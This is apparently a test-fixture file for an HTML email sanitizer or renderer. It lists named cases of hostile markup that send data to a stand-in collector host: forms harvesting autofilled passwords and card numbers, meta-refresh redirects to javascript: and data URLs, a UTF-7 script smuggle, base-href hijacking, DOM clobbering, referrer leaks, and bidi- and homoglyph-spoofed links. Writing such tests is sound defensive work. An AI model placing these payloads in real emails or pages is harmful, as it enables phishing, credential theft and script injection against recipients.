import { COLLECTOR, PAYLOAD, createEmails } from './model.ts';

/** Forms, and fields that browsers may autofill. */
export const forms = createEmails([
  [
    'form-post',
    'a form that posts',
    `<form action="${COLLECTOR}/form" method=post><input name=a value=b><button>Send</button></form>`,
  ],
  [
    'form-get',
    'a form that gets, sent by an image',
    `<form action="${COLLECTOR}/form"><input name=a><input type=image src="data:,x" alt=Send></form>`,
  ],
  [
    'form-target',
    'a form aimed at another window',
    `<form action="${COLLECTOR}/form" target=_top><input type=submit></form><form action="${COLLECTOR}/form" target=_blank><button>x</button></form>`,
  ],
  [
    'form-formaction',
    'a button with its own target',
    `<form><button formaction="${COLLECTOR}/form" formmethod=post formtarget=_top formnovalidate>x</button></form>`,
  ],
  ['form-no-action', 'a form without a target', '<form><input name=a autofocus><button>x</button></form>'],
  ['form-dialog', 'a dialog', `<dialog open><form method=dialog><button>x</button></form></dialog>`],
  [
    'form-mailto',
    'a form by email',
    '<form action="mailto:a@collector.invalid" enctype=text/plain><button>x</button></form>',
  ],
  [
    'form-autofill',
    'fields that browsers fill in',
    `<form action="${COLLECTOR}/fill"><input autocomplete=username name=u><input type=password autocomplete=current-password name=p><input autocomplete=cc-number><input type=email autocomplete=email></form>`,
  ],
  [
    'form-one-time',
    'a one-time code',
    '<input autocomplete=one-time-code inputmode=numeric autofocus><input type=file webkitdirectory><input type=color list=l><datalist id=l><option>x</datalist>',
  ],
  [
    'form-nested',
    'forms within forms',
    `<form id=a action="${COLLECTOR}/1"><div><form action="${COLLECTOR}/2"><button form=a>x</button></form></div></form>`,
  ],
  ['form-isindex', 'legacy isindex', `<isindex action="${COLLECTOR}/i" prompt=x><keygen autofocus onfocus=${PAYLOAD}>`],
  [
    'form-label',
    'a label that presses a button',
    `<form action="${COLLECTOR}/l"><label for=b>x</label><button id=b>y</button></form>`,
  ],
  [
    'form-clobber',
    'names that hide the page’s own',
    '<form name=body id=contentWindow><input name=querySelectorAll><input name=attributes><img name=getElementById></form><a id=document><a id=defaultView name=head>',
  ],
  [
    'form-invoker',
    'a button that commands',
    '<button commandfor=d command=show-modal>x</button><dialog id=d>y</dialog><button popovertarget=q>z</button><div id=q popover>w</div>',
  ],
]);

/** Elements that affect the whole page: meta, base. */
export const pragmas = createEmails([
  ['refresh', 'redirects immediately', `<meta http-equiv=refresh content="0;url=${COLLECTOR}/refresh">`],
  ['refresh-js', 'redirects to a script', `<meta http-equiv="Refresh" content="0; url=javascript:${PAYLOAD}">`],
  [
    'refresh-data',
    'redirects to a data page',
    `<meta http-equiv=refresh content="0;data:text/html,<script>${PAYLOAD}</script>">`,
  ],
  [
    'refresh-body',
    'in the middle of the body',
    `<p>x</p><div><meta http-equiv=" refresh " content="0,${COLLECTOR}/r2"></div>`,
  ],
  ['refresh-noscript', 'in noscript', `<noscript><meta http-equiv=refresh content="0;url=${COLLECTOR}/r3"></noscript>`],
  [
    'refresh-svg',
    'in SVG',
    `<svg><foreignObject><meta http-equiv=refresh content="0;url=${COLLECTOR}/r4"></foreignObject></svg>`,
  ],
  [
    'meta-csp',
    'another policy',
    '<meta http-equiv=Content-Security-Policy content="default-src *; script-src * \'unsafe-inline\'">',
  ],
  [
    'meta-csp-report',
    'a policy that reports',
    `<meta http-equiv=content-security-policy content="img-src 'none'; report-uri ${COLLECTOR}/report"><img src=${COLLECTOR}/reported.png>`,
  ],
  ['meta-charset', 'another encoding', `<meta charset=utf-7>+ADw-script+AD4-${PAYLOAD}+ADw-/script+AD4-`],
  [
    'meta-charset-type',
    'another encoding, the old way',
    '<meta http-equiv=Content-Type content="text/html; charset=utf-16be"><p>x</p>',
  ],
  ['meta-cookie', 'a cookie', '<meta http-equiv=Set-Cookie content="a=b; domain=127.0.0.1">'],
  [
    'meta-dns',
    'DNS prefetching of links',
    '<meta http-equiv=x-dns-prefetch-control content=on><a href="http://u1.collector.invalid/">x</a>',
  ],
  [
    'meta-referrer',
    'sends the full URL as referrer',
    `<meta name=referrer content=unsafe-url><img src="${COLLECTOR}/referrer.png">`,
  ],
  [
    'meta-referrer-attribute',
    'sends the full URL as referrer per element',
    `<img referrerpolicy=unsafe-url src="${COLLECTOR}/referrer2.png"><link rel=stylesheet referrerpolicy=unsafe-url href="${COLLECTOR}/referrer.css">`,
  ],
  [
    'meta-viewport',
    'a page of any size',
    '<meta name=viewport content="width=99999,initial-scale=0.01"><meta name=theme-color content=red><meta name=monetization content=x>',
  ],
  [
    'meta-default-style',
    'another stylesheet chosen',
    `<meta http-equiv=default-style content=x><link rel="alternate stylesheet" title=x href="${COLLECTOR}/alt.css">`,
  ],
  [
    'meta-accept-ch',
    'hints to be sent',
    '<meta http-equiv=accept-ch content="dpr, viewport-width"><meta http-equiv=delegate-ch content="sec-ch-width x">',
  ],
  [
    'meta-origin-trial',
    'trials of the browser',
    '<meta http-equiv=origin-trial content=AAAA><meta http-equiv=permissions-policy content="camera=*">',
  ],
  ['base-href', 'all addresses from elsewhere', `<base href="${COLLECTOR}/"><img src=relative.png><a href=x>x</a>`],
  [
    'base-target',
    'all links out of the frame',
    `<base target=_top><a href="${COLLECTOR}/t">x</a><form><button>x</button></form>`,
  ],
  ['base-data', 'a base that runs', `<base href="javascript:/"><a href=".">x</a><a href="/${PAYLOAD}">y</a>`],
  ['base-twice', 'two bases, one in the body', `<head><base></head><body><base href="${COLLECTOR}/b/"><img src=a.png>`],
]);

/** Links to other resources: loaded, prefetched or followed. */
export const links = createEmails([
  ...[
    'preload',
    'prefetch',
    'dns-prefetch',
    'preconnect',
    'prerender',
    'modulepreload',
    'manifest',
    'icon',
    'import',
    'next',
    'pingback',
    'search',
    'expect',
    'compression-dictionary',
  ].map(
    (rel) =>
      [
        `link-${rel}`,
        `link rel=${rel}`,
        `<link rel="${rel}" as=image href="${COLLECTOR}/link-${rel}"><p>x</p>`,
      ] as const,
  ),
  ['link-stylesheet', 'a stylesheet from outside', `<link rel=stylesheet href="${COLLECTOR}/sheet.css">`],
  [
    'link-stylesheet-data',
    'a stylesheet in its address',
    `<link rel=stylesheet href="data:text/css,@import '${COLLECTOR}/data.css'">`,
  ],
  [
    'link-rel-many',
    'several relations',
    `<link rel="stylesheet preload" as=style href="${COLLECTOR}/both.css"><link rel="STYLESHEET  Prefetch" href=${COLLECTOR}/b2>`,
  ],
  [
    'link-imagesrcset',
    'images in a preload',
    `<link rel=preload as=image imagesrcset="${COLLECTOR}/p.png 1x" imagesizes=1px>`,
  ],
  [
    'link-svg',
    'in SVG',
    `<svg><link rel=stylesheet href="${COLLECTOR}/svg.css" /><style>@import "${COLLECTOR}/svg2.css"</style></svg>`,
  ],
  ['link-body', 'in the body', `<p>x<link rel=prefetch href="${COLLECTOR}/b"></p>`],
  ['a-ping', 'reports a click', `<a href="https://collector.invalid/" ping="${COLLECTOR}/ping">x</a>`],
  [
    'a-attribution',
    'reports a view and a click',
    `<a href="#x" attributionsrc="${COLLECTOR}/attribution">x</a><img attributionsrc="${COLLECTOR}/attribution2" src="data:image/gif;base64,R0lGODlhAQABAAAAACw=">`,
  ],
  [
    'a-target',
    'out of the frame',
    `<a href="${COLLECTOR}/top" target=_top>x</a><a href="${COLLECTOR}/parent" target=_parent>x</a><a href="${COLLECTOR}/blank" target=_blank>x</a><a href="${COLLECTOR}/name" target=main>x</a>`,
  ],
  [
    'a-self',
    'within the frame',
    `<a href="${COLLECTOR}/self">x</a><a href="${COLLECTOR}/self2" target=_self rel="noopener opener">x</a>`,
  ],
  [
    'a-download',
    'a file is saved',
    '<a href="data:application/octet-stream,x" download="run.exe">x</a><a href="data:,x" download>y</a>',
  ],
  [
    'a-area',
    'an area of an image',
    `<img ismap usemap=#m width=50 height=50 src="data:image/gif;base64,R0lGODlhAQABAAAAACw="><map name=m><area shape=default href="${COLLECTOR}/area" ping="${COLLECTOR}/ping"></map>`,
  ],
  [
    'a-accesskey',
    'a key of the editor’s',
    `<a accesskey=s href="${COLLECTOR}/key">x</a><button accesskey=p>y</button>`,
  ],
  [
    'a-svg',
    'a link of SVG out of the frame',
    `<svg width=99 height=99><a href="${COLLECTOR}/svg" target=_top><rect width=99 height=99 /></a></svg>`,
  ],
  [
    'a-covers',
    'a link over everything',
    `<a href="${COLLECTOR}/all" style="position:fixed;inset:0;z-index:2147483647">x</a>`,
  ],
  [
    'a-hash',
    'names in the page',
    '<a href="#__proto__">x</a><a href="#%E0%A4%A">y</a><a name="%E0%A4%A">z</a><a href="#:~:text=x">w</a>',
  ],
  ['a-long', 'a very long URL', `<a href="https://collector.invalid/${'a'.repeat(200_000)}">x</a>`],
  [
    'a-bidi',
    'a misleading URL',
    '<a href="https://collector.invalid/\u202Egpj.exe">x</a><a href="https://\u0440\u0430ypal.invalid/\u200B">y</a>',
  ],
]);
